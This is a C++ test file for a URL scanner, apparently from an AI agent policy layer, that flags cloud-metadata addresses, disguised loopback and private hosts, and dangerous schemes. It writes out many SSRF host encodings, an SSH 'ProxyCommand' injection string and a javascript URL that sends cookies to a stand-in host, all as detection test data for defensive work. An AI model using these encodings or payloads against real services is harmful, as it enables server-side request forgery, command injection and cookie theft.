#include "policy/scan/urls.h"

#include <algorithm>
#include <string>

#include "policy/scan/addresses.h"
#include "policy/scan/url_hosts.h"
#include "tests/catch.h"
#include "tests/policy/scan/looks.h"

namespace agentmesh::policy::scan {

namespace {

struct Look {
  std::vector<Url> urls;
  std::vector<Hit> hits;
};

Look look(std::string_view text, bool whole = true) {
  Look out;
  find_urls(text, whole, out.urls, out.hits);
  return out;
}

}  // namespace

TEST_CASE("a URL is taken apart") {
  struct Case {
    const char* text;
    const char* scheme;
    const char* host;
    int port;
    bool is_private;
  };
  const Case cases[] = {
      {"https://Example.ORG/a?b#c", "https", "example.org", 443, false},
      {"http://example.org:8080", "http", "example.org", 8080, false},
      {"https://example.org.", "https", "example.org", 443, false},
      {"ws://10.0.0.7/x", "ws", "10.0.0.7", 80, true},
      {"http://[2001:4860:4860::8888]:81/", "http", "2001:4860:4860::8888", 81, false},
      {"http://[::1]/", "http", "::1", 80, true},
      {"postgres://u:p@db.example:5433/x", "postgres", "db.example", 5433, false},
      {"http://0x7f.1/", "http", "127.0.0.1", 80, true},
      {"http://2130706433", "http", "127.0.0.1", 80, true},
      {"http://%31%32%37.0.0.1/", "http", "127.0.0.1", 80, true},
      {"localhost:3000", "", "localhost", 3000, true},
      {"example.org/path", "", "example.org", 0, false},
  };
  for (const Case& c : cases) {
    CAPTURE(c.text);
    const Look got = look(c.text);
    REQUIRE(got.urls.size() == 1);
    CHECK(got.urls[0].scheme == c.scheme);
    CHECK(got.urls[0].host == c.host);
    CHECK(got.urls[0].port == c.port);
    CHECK(got.urls[0].is_private == c.is_private);
  }
}

TEST_CASE("addresses that matter are found in every spelling") {
  struct Case {
    const char* text;
    const char* id;
  };
  const Case cases[] = {
      {"http://169.254.169.254/latest/meta-data", "url.metadata"},
      {"http://[fd00:ec2::254]/", "url.metadata"},
      {"http://metadata.google.internal/", "url.metadata"},
      {"http://0xa9fea9fe/", "url.metadata"},
      {"ssh://-oProxyCommand=id/x", "url.disguised"},
      {"ssh://git@-oProxyCommand=id/x", "url.disguised"},
      {"git://-x/y", "url.disguised"},
      {"http://[::ffff:169.254.169.254]/", "url.metadata"},
      {"http://169.254.169.254.nip.io/", "url.metadata"},
      {"http://0177.0.0.1/", "url.disguised"},
      {"http://127.1/", "url.disguised"},
      {"http://2130706433/", "url.disguised"},
      {"http://[::ffff:7f00:1]/", "url.disguised"},
      {"http://[64:ff9b::10.0.0.1]/", "url.disguised"},
      {"http://\xE2\x91\xA0\xE2\x91\xA1\xE2\x91\xA6.0.0.1/", "url.disguised"},
      {"http://127\xE3\x80\x82"
       "0\xE3\x80\x82"
       "0\xE3\x80\x82"
       "1/",
       "url.disguised"},
      {"http:127.0.0.1/", "url.disguised"},
      {"http://10-0-0-1.sslip.io/", "url.disguised"},
      {"http://good.example\\@127.0.0.1/", "url.disguised"},
      {"http://192.168.1.1/", "url.private"},
      {"http://localhost:5000/", "url.private"},
      {"http://printer.local/", "url.private"},
      {"http://intranet/", "url.private"},
      {"https://bank.example@evil.example/", "url.userinfo"},
      {"gopher://example.org/_x", "url.scheme"},
      {"jar:http://example.org!/a", "url.scheme"},
      {"javascript:fetch('https://x.example/'+document.cookie)", "url.scheme"},
      {" \x01JavaScript:alert(1)", "url.scheme"},
      {"java\tscr\nipt:alert(1)", "url.scheme"},
      {"vbscript:msgbox(1)", "url.scheme"},
      {"ms-msdt:/id PCWDiagnostic", "url.scheme"},
      {"2852039166", "url.metadata"},
      {"http://127.0.0.2/", "url.disguised"},
      {"http://0.0.0.0/", "url.disguised"},
      {"http://[fe80::1%eth0]/", "url.disguised"},
      {"http://169.254.10.1/", "url.disguised"},
      {"http://[not::an::address]/", "url.disguised"},
      {"http://localhost:22/", "url.port"},
      {"http://example.org:25/", "url.port"},
      {"http://10.0.0.1:2375/v1/containers", "url.port"},
      {"http://127.0.0.1.example.org/", "url.disguised"},
      {"http://127-0-0-1.example.org/", "url.disguised"},
      {"http://169.254.169.254.example.org/", "url.metadata"},
      {"http://fuf.me/", "url.disguised"},
      {"http://7f000001.lip.io/", "url.disguised"},
      {"http://[a::b]/", "url.disguised"},
      {"https://example.org/go?url=http%3A%2F%2F169.254.169.254%2Flatest", "url.metadata"},
      {"https://example.org/go?url=http%253A%252F%252F169.254.169.254", "url.metadata"},
      {"https://example.org/go?a=b&host=169.254.169.254", "url.metadata"},
      {"https://example.org/go?to=//2130706433/", "url.disguised"},
      {"https://example.org/go?to=http%3A%2F%2Fa%40127.1", "url.disguised"},
      {"https://example.org/go#to=http://[::ffff:7f00:1]/", "url.disguised"},
      {"redis://127.1:6379/0", "url.disguised"},
      {"redis://2130706433/0", "url.disguised"},
      {"memcached://0xc0a80001/", "url.disguised"},
      {"res://2852039166/x", "url.metadata"},
      {"redis://0x7f.1:6379/", "url.disguised"},
      {"mongodb://0177.1:27017/", "url.disguised"},
      {"postgres://u@0x7f.1/x", "url.disguised"},
      {"postgresql+asyncpg://u@0x7f.1/x", "url.disguised"},
      {"rtsp://0x0a.1/", "url.disguised"},
      {"redis://10.1:6379/", "url.disguised"},
      {"rediss://172.16.1/", "url.disguised"},
      {"ssh://192.168.1/", "url.disguised"},
      {"git+ssh://git@192.168.1/a.git", "url.disguised"},
      {"smb://10.1/share", "url.disguised"},
      {"mqtt://0/", "url.disguised"},
      // under a scheme that nobody knows, what nobody numbers things by
      {"thing://0x7f.1/", "url.disguised"},
      {"thing://0177.1/", "url.disguised"},
      {"thing://0300.0250.1/", "url.disguised"},
      {"thing://192.0250.1/", "url.disguised"},
      {"thing://017700000001/", "url.disguised"},
      {"thing://169.254.43518/", "url.metadata"},
  };
  for (const Case& c : cases) {
    CAPTURE(c.text);
    CHECK(has(look(c.text).hits, c.id));
  }
}

TEST_CASE("what only begins like a scheme that runs something is none") {
  for (const char* text : {"javascript", "javascript:", "https://example.org/javascript:x",
                           "javascript-basics:1", "about:blank", "data:image/png;base64,AAAA",
                           "mailto:ann@example.org", "/javascript:void"}) {
    CAPTURE(text);
    CHECK_FALSE(has(look(text).hits, "url.scheme"));
  }
  std::vector<Url> found;
  std::vector<Hit> hits;
  find_urls("javascript: the good parts", false, found, hits);
  CHECK(hits.empty());
}

TEST_CASE("URLs that stand one a line are several") {
  std::vector<Url> found;
  std::vector<Hit> hits;
  find_urls("https://a.example\nhttps://b.example", true, found, hits);
  REQUIRE(found.size() == 2);
  CHECK(found[0].host == "a.example");
  CHECK(found[1].host == "b.example");
}

TEST_CASE("a text that is one URL is read as URL parsers read it") {
  struct Case {
    const char* text;
    const char* host;
  };
  for (const Case& c : std::initializer_list<Case>{
           {"https:bad.example/", "bad.example"},
           {"https:good.example@bad.example/", "bad.example"},
           {" \x01https:bad.example", "bad.example"},
           {"HTTPS:/\\bad.example", "bad.example"},
           {"ws:bad.example/x?y", "bad.example"},
           {"http:metadata.google.internal/computeMetadata/", "metadata.google.internal"},
           {"http:user@169.254.169.254/", "169.254.169.254"},
           {"http:①⑥⑨.②⑤④.①⑥⑨.②⑤④/", "169.254.169.254"},
           {"http:%31%36%39.254.169.254/", "169.254.169.254"},
           {"http:\t//169.254.169.254/", "169.254.169.254"},
           {"http:/\t/169.254.169.254/", "169.254.169.254"},
           {"h\nttp:169.254.169.254", "169.254.169.254"},
           {"\r\nhtt\rps://bad.exa\tmple/\n", "bad.example"},
           {"\\\\bad.example/", "bad.example"}}) {
    CAPTURE(c.text);
    std::vector<Url> found;
    std::vector<Hit> hits;
    find_urls(c.text, true, found, hits);
    REQUIRE_FALSE(found.empty());
    CHECK(found.back().host == c.host);
    CHECK(has(hits, "url.metadata") == (std::string_view(c.host).find("bad") == 0 ? false : true));
    if (c.text[0] == '\\') continue;
    found.clear();
    find_urls(c.text, false, found, hits);  // under another name
    REQUIRE_FALSE(found.empty());
    CHECK(found.back().host == c.host);
  }
  for (const char* text :
       {"http: see below", "http:", "https:\nnone", "http:request", "ws:open 1.2",
        "about http:bad.example", "https:see example.com below", "ftp: and http: are old"}) {
    CAPTURE(text);
    std::vector<Url> found;
    std::vector<Hit> hits;
    find_urls(text, false, found, hits);
    CHECK(found.empty());
    CHECK(hits.empty());
  }
  std::vector<Url> list;
  std::vector<Hit> hits;
  find_urls("https://a.example/\nhttps://b.example/", true, list, hits);
  REQUIRE(list.size() >= 2);
  CHECK(list[1].host == "b.example");
}

TEST_CASE("ordinary URLs raise nothing") {
  for (const char* text :
       {"https://example.org",
        "https://example.org/a@b?c=http://x.example",
        "https://docs.example.org/v1.2.3/",
        "http://1.1.1.1/",
        "https://8.8.8.8:443/dns-query",
        "https://user.github.io/x",
        "ssh://git@github.com/a/b.git",
        "git@github.com:a/b.git",
        "https://m\xC3\xBCnchen.example/",
        "https://127.example.org/",
        "s3://bucket/key",
        "mailto:a@b.example",
        "https://example.org:8443/",
        "https://db.example.org:6379/",
        R"(["account","sharing"])",
        "[{\"key\":true}]",
        "postgres://u@db.example/x",
        "data:text/plain,hi",
        "https://[2606:4700::1111]/",
        "https://example.org/login?redirect_uri=http%3A%2F%2Flocalhost%2Fdone&n=2130706433",
        "https://example.org/a?x=//cdn.example.org/y.js&v=1.2&t=10:30&e=a@b.example",
        "https://127-0-0-10.example.org/",
        "users://42/profile",
        "note://1",
        "session://0/state",
        "ticket://2024",
        "page://8080#8080",
        "invoice://170000001",
        "repo://1.2",
        "docs://10.1/index",
        "docs://10.12.2024",
        "docs://01.05.2024",
        "docs://10.01.2024",
        "journal://10.11.2023/entry",
        "journal://2024.01.05",
        "diary://1919.05.12",
        "minutes://172.16.2024",
        "cal://192.168.2024",
        "schema://10.100.200",
        "kb://10.240.1024",
        "kb://10.001/page",
        "event://1732871486123",
        "contact://4155551234",
        "color://0xff8800",
        "https://example.org/?q=what+is+169.254.0.0/16"}) {
    CAPTURE(text);
    CHECK(ids(look(text).hits).empty());
  }
}

TEST_CASE("what a development server says of itself is an ordinary private address") {
  for (const char* text :
       {"http://0.0.0.0:8000/", "http://localhost:3000", "http://[::1]:5173/",
        "http://127.0.0.1:8080/", "http://10.1.2.3:9090/", "https://192.168.1.1/api/v1/leases",
        "http://wiki.corp/", "http://nas.local/", "http://intranet/"}) {
    CAPTURE(text);
    CHECK(ids(look(text).hits) == "url.private");
    CHECK(severity_of(look(text).hits, "url.private") == "1");
  }
}

TEST_CASE("the web's own port on an inner address is no development server") {
  for (const char* text :
       {"http://192.168.0.1", "http://localhost/server-status", "https://10.1.2.3/",
        "http://127.0.0.1:80", "http://[::1]/", "https://localhost:443/"}) {
    CAPTURE(text);
    CHECK(severity_of(look(text).hits, "url.private") == "2");
  }
}

TEST_CASE("an address in the path of another host is a page about it") {
  for (const char* text : {"https://web.archive.org/web/2020/http://localhost/",
                           "https://web.archive.org/web/2019*/http://192.168.1.1/",
                           "https://example.com/docs/http://127.0.0.1:8000/setup",
                           "https://example.com/http://localhost:6379/",
                           "https://example.com/a/https://nas.local/b?c=d",
                           "https://example.com/a/http://10.0.0.1/http://10.0.0.2/"}) {
    CAPTURE(text, ids(look(text).hits));
    CHECK(severity_of(look(text).hits, "url.private") == "0");
    for (const Hit& hit : look(text).hits) CHECK(hit.severity == agentmesh::policy::Severity::kLow);
  }
  CHECK(severity_of(look("https://example.com/x/http://169.254.169.254/latest/").hits,
                    "url.metadata") == "3");
  CHECK(severity_of(look("https://example.com/http://2130706433/").hits, "url.disguised") == "2");
  // In the query of a page that forwards, behind a host that is none, in a list, and on this machine it is where one goes.
  for (const char* text :
       {"https://example.com/go?to=http://10.0.0.1/", "https://example.com/#http://10.0.0.1/",
        "https://example.com/a,http://10.0.0.1/", "https://example.com/a/ http://10.0.0.1/",
        "https://example.com/a/\nhttp://10.0.0.1/", "https://example.com\\a/http://10.0.0.1/",
        "http://localhost:8080/http://10.0.0.1/", "https://a@example.com/http://10.0.0.1/",
        "jar:https://example.com/http://10.0.0.1/", "http://10.0.0.1/a/http://example.com/"}) {
    CAPTURE(text);
    CHECK(severity_of(look(text).hits, "url.private") >= "1");
  }
}

TEST_CASE("URLs are found in prose, where a finding weighs less") {
  const Look got =
      look("see (https://a.example/x), http://b.example. And \"http://10.0.0.1/y\"", false);
  REQUIRE(got.urls.size() == 3);
  CHECK(got.urls[0].host == "a.example");
  CHECK(got.urls[1].host == "b.example");
  CHECK(got.urls[2].host == "10.0.0.1");
  CHECK(severity_of(got.hits, "url.private") == "0");
  CHECK(severity_of(look("http://10.0.0.1/y").hits, "url.private") == "1");
  const std::string text = "go to http://a.example/b now";
  const Look one = look(text, false);
  REQUIRE(one.urls.size() == 1);
  CHECK(text.substr(one.urls[0].begin, one.urls[0].end - one.urls[0].begin) ==
        "http://a.example/b");
  CHECK(look("ratio 3:4, at 10:30, C++::std, 10.0.0.1 alone", false).urls.empty());
}

TEST_CASE("a dictionary of every IPv4 spelling agrees with inet_aton's rules") {
  const auto text = [](const char* host) {
    return read_ipv4(host) ? read_ipv4(host)->text() : std::string("-");
  };
  CHECK(text("1.2.3.4") == "1.2.3.4");
  CHECK(text("1.2.772") == "1.2.3.4");
  CHECK(text("1.131844") == "1.2.3.4");
  CHECK(text("16909060") == "1.2.3.4");
  CHECK(text("0x01020304") == "1.2.3.4");
  CHECK(text("01.02.03.04") == "1.2.3.4");
  CHECK(text("0x1.2.0x3.04") == "1.2.3.4");
  CHECK(text("1.2.3.4.5") == "-");
  CHECK(text("1.2.3.x") == "-");
  CHECK(text("") == "-");
  CHECK(text("example.org") == "-");
  CHECK_FALSE(read_ipv4("1.2.3.4")->odd);
  CHECK(read_ipv4("1.2.772")->odd);
}

TEST_CASE("IPv6 is written as RFC 5952 writes it") {
  const auto text = [](const char* host) {
    return read_ipv6(host) ? read_ipv6(host)->text() : std::string("-");
  };
  CHECK(text("::") == "::");
  CHECK(text("0:0:0:0:0:0:0:1") == "::1");
  CHECK(text("2001:DB8::0:1") == "2001:db8::1");
  CHECK(text("1:0:0:2:0:0:0:3") == "1:0:0:2::3");
  CHECK(text("fe80::1%eth0") == "fe80::1");
  CHECK(text("::ffff:1.2.3.4") == "1.2.3.4");
  CHECK(text("2002:7f00:1::") == "127.0.0.1");
  CHECK(text("1::2::3") == "-");
  CHECK(text("12345::") == "-");
  CHECK(text("1:2:3") == "-");
  CHECK(text("1:2:3:4:5:6:7:8:9") == "-");
}

TEST_CASE("host globs") {
  const std::vector<std::string> globs = {"*.example.org", "api-?.corp", "Plain.host."};
  CHECK(host_in("a.example.org", globs));
  CHECK(host_in("A.B.EXAMPLE.org.", globs));
  CHECK_FALSE(host_in("example.org", globs));
  CHECK_FALSE(host_in("evilexample.org", globs));
  CHECK(host_in("api-1.corp", globs));
  CHECK_FALSE(host_in("api-12.corp", globs));
  CHECK(host_in("plain.host", globs));
  CHECK_FALSE(host_in("x", {}));
}

TEST_CASE("URLs that begin in the host of another are three, and one that nobody can tell") {
  const std::string inside = repeated("http:1aaaaaaaaaaaaaaaaaaaaa=", 1500);
  const Look found = look("see " + inside + ", http://example.org/ too", false);
  REQUIRE(found.urls.size() == 5);
  CHECK(found.urls[3].cut);
  CHECK(found.urls[3].end == 4 + inside.size());
  CHECK(found.urls[4].host == "example.org");
  CHECK(has(found.hits, "url.disguised"));
  // In the path of another there may be as many as anybody likes.
  const Look paths = look("see " + repeated("https://example.org/a?next=", 1500), false);
  CHECK(paths.urls.size() == 56);
  CHECK(std::none_of(paths.urls.begin(), paths.urls.end(), [](const Url& url) { return url.cut; }));
}

TEST_CASE("a URL ends before the marks of its sentence, however many there are") {
  const std::string marks(300, '.');
  const Look found = look("(ab://b/c?ab://d/e" + marks + ") and ab://f" + marks, false);
  REQUIRE(found.urls.size() == 3);
  CHECK(found.urls[0].end == 18);
  CHECK(found.urls[1].end == 18);
  CHECK(found.urls[2].host == "f");
}

TEST_CASE("line ends without a line are passed over once") {
  // Minutes, while each was the beginning of all of them.
  CHECK(look("http:" + std::string(2'000'000, '\n')).urls.empty());
}

TEST_CASE("no bytes make the URL scanner run wild") {
  for (const std::string& unit : hostile_units()) {
    CAPTURE(unit);
    CHECK(look(repeated(unit, 20000), true).urls.size() <= kMaxUrls);
    CHECK(look(repeated(unit, 20000), false).urls.size() <= kMaxUrls);
  }
}

}  // namespace agentmesh::policy::scan
